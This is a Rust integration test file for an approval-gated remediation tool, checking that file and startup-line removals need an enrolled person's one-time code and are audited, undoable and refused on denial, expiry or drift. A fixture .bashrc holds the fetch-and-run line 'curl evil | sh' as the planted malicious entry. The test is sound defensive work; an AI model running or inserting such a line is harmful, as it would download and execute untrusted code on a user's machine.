//! A person's yes and no, end to end: the real binary, its own state, real files.

mod support;

use serde_json::{Value, json};
use std::os::unix::fs::{MetadataExt, PermissionsExt};
use std::path::Path;
use support::{Home, Person, Said, ended, text};

const CONTENT: &str = "#!/bin/sh\necho planted\n";

fn state_of(home: &Home, command_id: &str) -> Value {
    home.call("status", json!({ "command_id": command_id })).expect(0).json()["data"]["command"].clone()
}

#[test]
fn with_nobody_enrolled_the_refusal_comes_at_once() {
    let home = Home::new();
    let file = home.file("dropper", CONTENT);
    let refused = home.call("remediate", json!({ "type": "file", "id": file })).expect(3).json();
    assert_eq!(refused["error"]["code"], "E_NO_HUMAN_CHANNEL");
    assert!(text(&refused["error"]["hint"]).contains("approver enroll"));
    home.run(&["approvals", "approve", "r-0"], "123456\n").expect(1).says("E_NO_HUMAN_CHANNEL");
    assert_eq!(std::fs::read_to_string(&file).unwrap(), CONTENT);
}

#[test]
fn a_line_of_a_start_up_file_goes_with_a_yes_and_comes_back_with_another() {
    const SHELL: &str = "export A=1\ncurl evil | sh\nalias b=c\n";
    let home = Home::new();
    let person = home.enroll("anna");
    let file = home.file(".bashrc", SHELL);
    let id = format!("{}:2", file.display());
    let asked = home.call("remediate", json!({ "type": "startup", "id": id })).expect(4).json();
    let request = text(&asked["approval"]["request_id"]).to_owned();
    let shown = home.run(&["approvals", "show", &request], "").expect(0).out();
    assert!(shown.contains("Take this line out of this file") && shown.contains("curl evil | sh"), "{shown}");
    home.run(&["approvals", "approve", &request], format!("{}\n", person.code())).expect(0);
    assert_eq!(std::fs::read_to_string(&file).unwrap(), "export A=1\nalias b=c\n");

    let listed = home.call("remediate", json!({ "list": true })).expect(0).json();
    let row = &listed["data"]["rows"][0];
    assert_eq!((&row["type"], &row["id"], &row["outcome"]), (&json!("startup"), &json!(id), &json!("cut")));
    let asked = home.call("undo", json!({ "type": "startup", "id": id })).expect(4).json();
    let request = text(&asked["approval"]["request_id"]).to_owned();
    home.run(&["approvals", "approve", &request], format!("{}\n", person.code())).expect(0);
    assert_eq!(std::fs::read_to_string(&file).unwrap(), SHELL);
}

#[test]
fn a_file_goes_with_a_yes_and_comes_back_with_another() {
    let home = Home::new();
    let person = home.enroll("anna");
    let file = home.file("dropper", CONTENT);
    std::fs::set_permissions(&file, std::fs::Permissions::from_mode(0o751)).unwrap();
    let before = std::fs::metadata(&file).unwrap();

    let (request, command) = home.ask_to_remediate(&file);
    let listed = home.run(&["approvals", "list", "--json"], "").expect(0).json();
    assert_eq!(listed[0]["request_id"], request.as_str());
    assert_eq!(listed[0]["state"], "pending");
    let shown = home.run(&["approvals", "show", &request], "").expect(0).out();
    let sha256 = sha256_of(&file);
    assert!(shown.lines().any(|l| l.contains(file.to_str().unwrap())), "{shown}");
    assert!(shown.lines().any(|l| l.contains(&sha256)), "{shown}");

    home.run(&["approvals", "approve", &request], format!("{}\n", person.wrong_code()))
        .expect(1)
        .says("E_FACTOR_INVALID");
    assert!(file.exists());
    assert_eq!(state_of(&home, &command)["state"], "pending_approval");

    // Of the present step: it must still be of an accepted one when it is given again.
    let code = person.code_of(0);
    let approved = home.run(&["approvals", "approve", &request], format!("{code}\n")).expect(0);
    assert!(approved.out().contains("verified: yes"), "{}", approved.out());
    assert!(approved.out().contains(&sha256), "the plan is on the screen");
    assert!(!file.exists());
    let status = state_of(&home, &command);
    assert_eq!((&status["state"], &status["verified"]), (&json!("completed"), &json!("yes")));
    assert_eq!(status["replayed"], true);
    home.run(&["approvals", "approve", &request], format!("{}\n", person.code_of(0))).expect(1).says("E_CONSUMED");

    let undo = home.call("undo", json!({ "type": "file", "id": file })).expect(4).json();
    let request = text(&undo["approval"]["request_id"]);
    // The step that approved the removal approves nothing else.
    home.run(&["approvals", "approve", &request], format!("{code}\n")).expect(1).says("E_FACTOR_REUSED");
    assert!(!file.exists());
    home.run(&["approvals", "approve", &request], format!("{}\n", person.code())).expect(0);
    assert_eq!(std::fs::read_to_string(&file).unwrap(), CONTENT);
    let after = std::fs::metadata(&file).unwrap();
    assert_eq!(after.mode(), before.mode());
    assert_eq!((after.mtime(), after.mtime_nsec()), (before.mtime(), before.mtime_nsec()));

    home.run(&["audit", "verify"], "").expect(0);
    let log = home.log();
    assert!(
        !log.contains(person.secret()) && !log.contains(&format!("\"{code}\"")),
        "a code or a secret is in the log"
    );
    assert_eq!(home.count("exec.consumed"), 2);
}

#[test]
fn a_no_is_final_and_needs_no_code() {
    let home = Home::new();
    let person = home.enroll("anna");
    let file = home.file("dropper", CONTENT);
    let (request, command) = home.ask_to_remediate(&file);
    home.run(&["approvals", "deny", &request], "").expect(0);
    let status = state_of(&home, &command);
    assert_eq!((&status["state"], &status["error"]["code"]), (&json!("refused"), &json!("E_DENIED")));
    home.run(&["approvals", "approve", &request], format!("{}\n", person.code_of(0))).expect(1).says("E_DENIED");
    assert!(file.exists());
    assert!(home.log().lines().filter(|l| l.contains("request.denied")).all(|l| !l.contains("anna")));
}

#[test]
fn a_request_that_nobody_decides_expires() {
    let home = Home::new();
    let person = home.enroll("anna");
    let config = home.path().join("config/live-response");
    std::fs::create_dir_all(&config).unwrap();
    let policy = "version = 1\n[defaults]\npending_ttl_s = 1\n[[rule]]\ncommands = [\"remediate\"]\n\
                  groups = [\"this-host\"]\nlevel = \"L\"\nvotes = 1\n";
    std::fs::write(config.join("policy.toml"), policy).unwrap();
    let file = home.file("dropper", CONTENT);
    let asked = home.run(&["--config", "../config/live-response/config.toml", "call", "devices"], "");
    assert_ne!(asked.code(), 0, "a named configuration has to be there");
    let (request, command) = home.ask_to_remediate(&file);
    let waited = home.call("fg", json!({ "command_id": command })).expect(0).json();
    assert_eq!(waited["data"]["command"]["state"], "expired");
    home.run(&["approvals", "approve", &request], format!("{}\n", person.code_of(0))).expect(1).says("E_EXPIRED");
    assert!(file.exists());
}

#[test]
fn of_two_processes_with_the_same_code_one_dispatches() {
    let home = Home::new();
    let person = home.enroll("anna");
    let file = home.file("dropper", CONTENT);
    let (request, _) = home.ask_to_remediate(&file);
    let code = format!("{}\n", person.code_of(0));
    let racers: Vec<_> = (0..4).map(|_| home.start(&["approvals", "approve", &request], &code)).collect();
    let codes: Vec<i32> = racers.into_iter().map(|r| ended(r).code()).collect();
    assert_eq!(codes.iter().filter(|c| **c == 0).count(), 1, "{codes:?}");
    assert_eq!(home.count("exec.consumed"), 1);
    assert!(!file.exists());
    home.run(&["audit", "verify"], "").expect(0);
}

#[test]
fn the_asker_may_be_dead_by_then() {
    let home = Home::new();
    let person = home.enroll("anna");
    let file = home.file("dropper", CONTENT);
    // The process that asked has ended when `call` returns.
    let (request, command) = home.ask_to_remediate(&file);
    home.run(&["approvals", "approve", &request], format!("{}\n", person.code_of(0))).expect(0);
    assert!(!file.exists());
    let jobs = home.call("jobs", json!({})).expect(0).json();
    let rows = jobs["data"]["rows"].as_array().unwrap();
    assert!(rows.iter().any(|r| r["command_id"] == command.as_str() && r["state"] == "completed"), "{rows:?}");
}

#[test]
fn a_plan_whose_file_has_changed_is_not_run() {
    let home = Home::new();
    let person = home.enroll("anna");
    let file = home.file("dropper", CONTENT);
    let (request, command) = home.ask_to_remediate(&file);
    std::fs::write(&file, "another content\n").unwrap();
    home.run(&["approvals", "approve", &request], format!("{}\n", person.code_of(0))).expect(1).says("E_ENTITY_DRIFT");
    assert_eq!(std::fs::read_to_string(&file).unwrap(), "another content\n");
    assert_eq!(state_of(&home, &command)["error"]["code"], "E_ENTITY_DRIFT");
}

#[test]
fn the_plan_has_to_reach_the_screen() {
    let home = Home::new();
    let person = home.enroll("anna");
    let file = home.file("dropper", CONTENT);
    let (request, command) = home.ask_to_remediate(&file);
    let mut child = home.piped(&["approvals", "approve", &request]).spawn().unwrap();
    drop(child.stdout.take());
    // It may have ended before it reads.
    let code = format!("{}\n", person.code_of(0));
    let _ = std::io::Write::write_all(&mut child.stdin.take().unwrap(), code.as_bytes());
    assert_eq!(ended(child).code(), 1);
    assert!(file.exists());
    assert_eq!(state_of(&home, &command)["state"], "pending_approval");
}

#[test]
fn without_a_code_nothing_is_voted() {
    let home = Home::new();
    home.enroll("anna");
    let file = home.file("dropper", CONTENT);
    let (request, _) = home.ask_to_remediate(&file);
    for nothing in ["", "\n", "   \n"] {
        home.run(&["approvals", "approve", &request], nothing).expect(1).says("E_FACTOR_INVALID");
    }
    assert_eq!(home.count("auth.failed"), 0);
    assert!(file.exists());
}

#[test]
fn a_further_enrolment_needs_a_code_of_someone_enrolled() {
    let home = Home::new();
    let anna = home.enroll("anna");
    home.run(&["approver", "enroll", "mallory"], "\n").expect(1).says("E_APPROVER_NOT_ENTITLED");
    home.run(&["approver", "enroll", "mallory", "--as", "anna"], "000000\n\n").expect(1);
    let screen =
        home.run(&["approver", "enroll", "bert", "--as", "anna"], format!("{}\n\n", anna.code_of(0))).expect(0);
    let bert = Person::scan(&screen.out());
    let listed = home.run(&["approver", "list", "--json"], "").expect(0).json();
    let names: Vec<&str> = listed.as_array().unwrap().iter().map(|p| p["name"].as_str().unwrap()).collect();
    assert_eq!(names, ["anna", "bert"]);

    // Two people: who votes has to be said.
    let file = home.file("dropper", CONTENT);
    let (request, _) = home.ask_to_remediate(&file);
    let code = format!("{}\n", bert.code_of(0));
    home.run(&["approvals", "approve", &request], &code).expect(2).says("E_BAD_ARGS");
    home.run(&["approvals", "approve", &request, "--as", "bert"], &code).expect(0);
    assert!(home.log().contains("bert"));
    home.run(&["approver", "remove", "bert", "--as", "anna"], "000000\n").expect(1);
    assert_eq!(home.run(&["approver", "list", "--json"], "").json().as_array().map(Vec::len), Some(2));
}

#[test]
fn a_first_code_is_checked_where_one_is_given() {
    let home = Home::new();
    home.run(&["approver", "enroll", "anna"], "000000\n").expect(1).says("E_FACTOR_INVALID");
    let listed = home.run(&["approver", "list", "--json"], "").expect(0).json();
    assert_eq!(listed[0]["confirmed"], false, "the enrolment stands, unconfirmed");
    home.run(&["approver", "enroll", "../x"], "\n").expect(2);
}

#[test]
fn an_unknown_request_and_a_changed_log_end_with_1() {
    let home = Home::new();
    home.enroll("anna");
    for command in ["show", "approve", "deny"] {
        home.run(&["approvals", command, "r-\u{1b}[2J"], "123456\n").expect(1).says("E_SCOPE");
    }
    let checkpoint = home.run(&["audit", "checkpoint"], "").expect(0).out();
    let kept = home.file("checkpoint", &checkpoint);
    home.run(&["audit", "verify", "--checkpoint", kept.to_str().unwrap()], "").expect(0);
    let segment = std::fs::read_dir(home.state().join("audit")).unwrap().flatten().map(|e| e.path());
    let segment = segment.filter(|p| p.metadata().unwrap().len() > 100).min().expect("a segment");
    let text = std::fs::read_to_string(&segment).unwrap();
    std::fs::write(&segment, text.replacen("anna", "anny", 1)).unwrap();
    let verdict = home.run(&["audit", "verify"], "").expect(1);
    assert!(verdict.out().contains("DOES NOT HOLD"), "{}", verdict.out());
}

#[test]
fn a_watch_shows_and_asks() {
    let home = Home::new();
    home.enroll("anna");
    let file = home.file("dropper", CONTENT);
    let (request, command) = home.ask_to_remediate(&file);
    let watched = home.run(&["approvals", "watch"], "no\n");
    // The second look at stdin, if there is one, finds its end.
    assert!(watched.out().contains(&request), "{}", watched.out());
    assert!(watched.out().contains("denied"), "{}", watched.out());
    assert_eq!(state_of(&home, &command)["state"], "refused");
}

fn sha256_of(file: &Path) -> String {
    use sha2::Digest;
    let digest = sha2::Sha256::digest(std::fs::read(file).unwrap());
    digest.iter().map(|b| format!("{b:02x}")).collect()
}
